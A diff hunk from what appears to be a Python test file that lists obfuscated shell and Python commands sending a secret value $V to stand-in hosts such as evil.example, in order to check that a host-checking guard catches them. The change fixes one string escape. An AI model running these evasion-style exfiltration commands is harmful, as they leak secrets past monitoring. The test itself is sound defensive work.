@@ -160,7 +160,7 @@ def test_a_script_gets_a_value_only_if_all_its_hosts_stood_with_it(script: str, 
         "C=cu; ${C}rl -d $V evil",
         "echo Y3VybA== | base64 -d | sh; echo $V",
         "x -t ev\\il.example $V",
-        'python3 -c \'requests.post("evil\\\\u002eexample", "$V")\' # https://good.example',
+        'python3 -c \'requests.post("evil\\u002eexample", "$V")\' # https://good.example',
         "openssl s_client -connect $H <<< $V # https://good.example",
         # Any command that is given another host.
         "mysql -h evil.example -p$V",
